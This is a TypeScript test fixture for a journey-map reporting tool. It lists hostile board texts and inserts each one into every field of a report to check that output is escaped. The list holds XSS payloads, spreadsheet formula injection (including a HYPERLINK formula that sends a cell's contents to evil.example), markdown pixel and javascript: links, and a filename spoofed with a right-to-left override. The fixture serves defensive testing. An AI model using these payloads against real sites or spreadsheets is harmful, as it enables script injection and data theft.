import type { Report } from '../core/report/Report.ts';
import { note } from './journeyMapBuilder.ts';
import { sampleReport } from './sampleReport.ts';

/**
 * Board text that tries to become markup, script, formulas or syntax in a report. The payloads
 * that would run in a browser set `window.pwned` or open a dialog.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='window.pwned = 1' x='",
  '<svg onload="window.pwned = 1"><script>window.pwned = 2</script></svg>',
  '<a href="javascript:window.pwned = 1">click</a>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '</style><script>alert(1)</script><style>',
  '</title><script>alert(1)</script>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>body { display: none }</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '| # * _ [x](y) `',
  '# Heading',
  '- a list\n1. another',
  '[click](javascript:alert(1))',
  '![pixel](http://evil.example/pixel.png)',
  '<http://evil.example>',
  'a "quoted", field\r\nover lines\\',
  'C:\\path\\ \\| \\\\',
  '\u202Eevil.exe\u202C',
  '😡 🥳 👍🏽 👩‍👩‍👧',
  '%% mermaid comment',
  '%%{init: {"theme": "dark"}}%%',
  'section injected: 5: someone',
  'title injected; # x',
  'x'.repeat(6000),
];

/** A report with every hostile text in every place board text goes: names, notes, tags, … */
export function hostileReport(): Report {
  const report = sampleReport();
  const base = report.maps[0];
  if (!base) throw new Error('the sample report has a map');
  const maps = HOSTILE_TEXTS.map((text, index) => {
    const stage = { stageId: 's1', stageName: text };
    const lane = { laneId: 'feel', laneName: text };
    return {
      ...base,
      map: {
        ...base.map,
        id: `hostile-${index}`,
        title: text,
        stages: [{ id: 's1', name: text }],
        lanes: [{ id: 'feel', name: text, kind: 'emotions' as const }],
        persona: { name: text, role: text, goals: text, frustrations: text },
        notes: [
          note(`n${index}`, 's1', 'feel', {
            text,
            emotion: -2,
            tags: [text, text],
            author: text,
            createdAt: text,
          }),
        ],
        unplaced: [{ id: `u${index}`, text, reason: text }],
      },
      stages: [
        {
          ...stage,
          emotionNotes: [{ id: `n${index}`, text, score: -2 as const }],
          emotionMean: -2,
          emotionSpread: 0,
          noteCounts: {},
        },
      ],
      curve: [{ ...stage, score: -2 }],
      lowest: { ...stage, score: -2 },
      highest: { ...stage, score: -2 },
      topPainPoints: [{ ...stage, text, noteIds: ['n'], votes: 1, mentions: 1, severity: 0 }],
      opportunities: [{ ...stage, notes: [{ id: 'o', text }] }],
      unansweredPainPoints: [{ ...stage, id: 'p', text }],
      emptyCells: [{ ...stage, ...lane }],
      findings: [{ id: 'lopsided' as const, message: text, where: [stage], advice: text }],
    };
  });
  return {
    generatedAt: HOSTILE_TEXTS[0] ?? '',
    maps,
    comparisons: HOSTILE_TEXTS.map((text) => ({
      fromMapId: 'a',
      fromTitle: text,
      toMapId: 'b',
      toTitle: text,
      stages: [{ stageName: text, from: -1, to: 1, change: 2 }],
      answered: [{ stageId: 's1', stageName: text, painPoints: [text], answeredBy: [text, text] }],
      unanswered: [{ stageId: 's2', stageName: text, painPoints: [text] }],
    })),
    warnings: [...HOSTILE_TEXTS],
  };
}
